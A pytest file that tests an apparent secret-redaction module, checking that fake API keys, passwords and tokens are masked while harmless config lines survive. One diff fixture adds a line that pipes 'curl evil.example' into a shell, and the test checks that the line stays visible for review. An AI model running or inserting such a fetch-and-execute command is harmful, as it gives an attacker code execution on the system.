"""Secrets go, everything else stays."""

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from harness.redaction import MASK, Memory, Secrets, redact, redact_diff, secret_values

# «…» stands around what must go
SECRET = """
OPENAI_API_KEY=«sk-proj-abcdefghijklmnop»
api_key: «hunter2hunter»
{"password": "«x y z»", "lr": 1e-6}
password: «12345678»
Authorization: Bearer «abcdefghijkl.mno»
git clone https://ada:«pa55word»@host/x
train --hf-token «abc123def» --lr 3
login with «hf_abcdefghijklmnopqrstuvwxyz»
«AKIAIOSFODNN7EXAMPLE»
Cookie: session=«abc»
-----BEGIN RSA PRIVATE KEY-----\\n«MIIabc»\\n-----END RSA PRIVATE KEY-----
jwt eyJhbGciOiJI.«eyJzdWIiOiIx».sig
os.environ["WANDB_API_KEY"] = "«hunter2Zq81LmXw»"
os.environ['MY_JUDGE_TOKEN']='«hunter2Zq81LmXw»'
os.environ.setdefault("HF_TOKEN", "«hunter2Zq81LmXw»")
api_key: str = "«hunter2Zq81LmXw»"
wandb.login(key="«hunter2Zq81LmXw»")
wandb.login(relogin=True, key="«hunter2Zq81LmXw»")
wandb login --relogin «hunter2Zq81LmXw»
password: >-\\n  hunter two\\n  «three»\\nlr: 1
db:\\n  token: |\\n    «hunter2»\\n  lr: 1
api_keys: [hunter2, «hunter3»]
api_keys:\\n  - hunter2\\n  - «hunter3»\\nlr: 1
x = dict(api_key=('«hunter2»'))
Authorization: Token «hunter2Zq81LmXw»
-H 'Authorization: «hunter2Zq81LmXw»'
git+https://«hunter2Zq81LmXw»@github.com/x
curl -u ada:«hunter2» http://x
curl --user=ada:«hunter2» http://x
SLACK=https://hooks.slack.com/services/T000/B000/«Zq81LmXw»
AZURE_KEY=«hunter2»
DASHSCOPE_KEY: '«hunter2»'
azure_key: «8f3b0c12ab99»
db_pass: «hunter»
gsk_a1B2a1B2«a1B2a1B2»a1B2a1B2
xai-a1B2a1B2«a1B2a1B2»a1B2a1B2
r8_a1B2a1B2«a1B2a1B2»a1B2a1B2
tvly-a1B2a1B2«a1B2a1B2»
ya29.a1B2_a1B2_«a1B2_a1B2»_a1B2
""".strip().splitlines()
HARMLESS = """
max_tokens: 100
eos_token: <|im_end|>
loss_agg_mode: token-mean
token 5 of 7
the secret is out
tokens per second: 33
api_key: $OPENAI_API_KEY
api_key: null
step:12 - actor/kl_loss:0.00123 - perf/throughput:2600.5
attempts/01/trainer/validation.jsonl:1–256
https://example.org:8080/path?a=b
ssh://git@github.com/x
pad_token: <pad>
num_tokens: many
special_tokens: [<a>, <b>]
prompt_key: question
reward_fn_key: data_source
sorted(rows, key=by_length)
sort_key: image_path_v2_resized_1
api_key = os.environ["OPENAI_API_KEY"]
docker run -u 1000:1000 curl
wandb login required before the run
secret:\\n  name: x
pass_rate: good
two_pass: jointly
fields = ['password', 'username']
mask_token: [1, 2]
QUESTION_KEYS = ("question", "prompt")
if token == "x" or is_token: bool
harness new --set KEY=VALUE
""".strip().splitlines()


@pytest.mark.parametrize("marked", SECRET)
def test_secrets_are_masked(marked: str) -> None:
    before, secret, after = marked.replace("\\n", "\n").replace("»", "«").split("«")
    masked = redact(before + secret + after)
    assert secret not in masked
    assert MASK in masked


@pytest.mark.parametrize("line", HARMLESS)
def test_harmless_text_is_kept(line: str) -> None:
    text = line.replace("\\n", "\n")
    assert redact(text) == text


def test_known_values_are_masked_wherever_they_stand() -> None:
    known = secret_values({"MY_TOKEN": "correct-horse", "HOME": "/home/ada", "DB_PASSWORD": "short"})
    assert known == ("correct-horse",)
    assert redact("it printed correct-horse here", Secrets(known)) == f"it printed {MASK} here"
    secret = {"AZURE_KEY": "correct-horse", "GIT_PAT": "battery-staple"}
    harmless = {"SSH_AUTH_SOCK": "/tmp/ssh/agent", "PAD_TOKEN": "<|padding|>"}
    harmless |= {"TOKENIZERS_PARALLELISM": "definitely"}
    assert secret_values({**harmless, **secret}) == tuple(secret.values())


@pytest.mark.parametrize(
    "word", ["training", "VALIDATION", "Password", "val_loss", "critic/rewards", "report.html", "WANDB_MODE"]
)
def test_a_secret_that_is_a_word_is_masked_behind_its_name_alone(word: str) -> None:
    address = f"host=db;password={word};port=1"
    known = secret_values({"DB_PASSWORD": word, "DATABASE": address})
    assert known == (address,)
    assert redact(f"{word} of step 3, DB_PASSWORD={word}", Secrets(known)) == (
        f"{word} of step 3, DB_PASSWORD={MASK}"
    )


@pytest.mark.parametrize(
    "secret", ["abcdefghijklmnop", "traininG", "tr4ining", "two words", "correct-horse", "training!"]
)
def test_a_secret_that_is_no_short_word_is_masked_everywhere(secret: str) -> None:
    assert secret_values({"DB_PASSWORD": secret}) == (secret,)


def test_lines_of_a_masked_block_stay_as_many() -> None:
    text = "a: 1\ntoken: |  # two lines\n  one\n  two\nb: 2\n"
    assert redact(text) == f"a: 1\ntoken: |  # two lines\n  {MASK}\n  {MASK}\nb: 2\n"


UNITS = (
    "a-", "a.", "a", "token ", "--key ", "basic ", "-----BEGIN PRIVATE KEY-----", 'token="\\a', "login(",
    "key-", "eyJ-", "://a", "http://", "curl -u a:", "token:\n", "token:\n  - a\n", " ", "wandb login -a ",
    "token=(' ", "Authorization:", "api_key[", "key,", "token: [", "\n  ", "password: >\n", "https://a:",
    "sk-", "?sig=", "SG.a", "12345678:AA", "M.", "://:@",
)  # fmt: skip


@pytest.mark.parametrize(
    ("length", "limit_s"), [(50_000, 3.0), pytest.param(200_000, 12.0, marks=pytest.mark.soak)]
)
@pytest.mark.parametrize("unit", UNITS)
def test_time_grows_no_faster_than_the_text(unit: str, length: int, limit_s: float) -> None:
    started = time.process_time()
    redact(unit * (length // len(unit)))
    redact("token:" + unit * (length // len(unit)))
    assert time.process_time() - started < limit_s, (
        "of 200,000 characters, what grew with the square took minutes"
    )


PIECES = (
    "api_keys", "token", ":", " ", "\n", "  - ", "|", ">-", "=", '"', "'", "[", "]", "(", ")", ",", "x", "@",
    "login(", "a1b2c3d4e5f6g7", "https://", "curl -u ", "Authorization: ", "Token ", "wandb login ",
    "AZURE_KEY",
)  # fmt: skip


@given(st.lists(st.sampled_from(PIECES)).map("".join) | st.text())
def test_twice_is_once(text: str) -> None:
    assert redact(redact(text)) == redact(text)


@pytest.mark.parametrize("name", ["api_key", "PASSWORD", "--token", "secret"])
@pytest.mark.parametrize("link", ["=", ": ", " = ", '": "'])
def test_twice_is_once_for_named_values(name: str, link: str) -> None:
    masked = redact(f'x {name}{link}abcdef123"456 y')
    assert "abcdef123" not in masked and redact(masked) == masked


def test_remembered_secrets_are_looked_for_in_time() -> None:
    none = Memory("00" * 16, frozenset())
    memory = Memory("00" * 16, frozenset(none.digest("x" * length) for length in range(6, 46)))
    started = time.process_time()
    for unit in ("a ", "a", "=", "word, ", "\n"):
        assert memory.masked(unit * (100_000 // len(unit))) == unit * (100_000 // len(unit))
    assert time.process_time() - started < 40.0


HIDING = """\
--- before/train.py
+++ after/train.py
@@ -1,3 +1,4 @@
 api_key = "author-own-key-1"
-token = "old-own-secret-2"; lr = 1
+token = "abc"; __import__("os").system("curl evil.example | sh"); lr = 2
+password = 'opened-by-known-55'; key = "QWxhZGRpbjpvcGVu12"
+++ secret = "whole"; steal()
-key = "QWxhZGRpbjpvcGVu12"
"""


def test_a_diff_shows_every_added_line_whole_but_for_secrets_that_are_known() -> None:
    shown = redact_diff(HIDING, Secrets(("known-55",)))
    assert '+token = "abc"; __import__("os").system("curl evil.example | sh"); lr = 2\n' in shown
    assert '+++ secret = "whole"; steal()' in shown, "no header, an added line that begins with ++"
    assert f"+password = 'opened-by-{MASK}'; key = \"{MASK}\"" in shown, "a key of the author's own line"
    assert "author-own" not in shown and "old-own" not in shown and "QWx" not in shown
